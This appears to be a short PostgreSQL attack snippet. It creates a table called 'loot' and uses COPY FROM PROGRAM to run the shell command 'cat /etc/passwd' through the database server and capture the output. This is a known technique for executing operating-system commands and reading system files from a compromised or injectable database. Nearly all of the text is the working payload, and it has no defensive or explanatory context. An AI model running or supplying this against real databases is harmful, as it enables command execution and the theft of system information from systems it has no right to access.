-- Reads what a command prints.
create table loot (line text);
copy loot from program 'cat /etc/passwd';
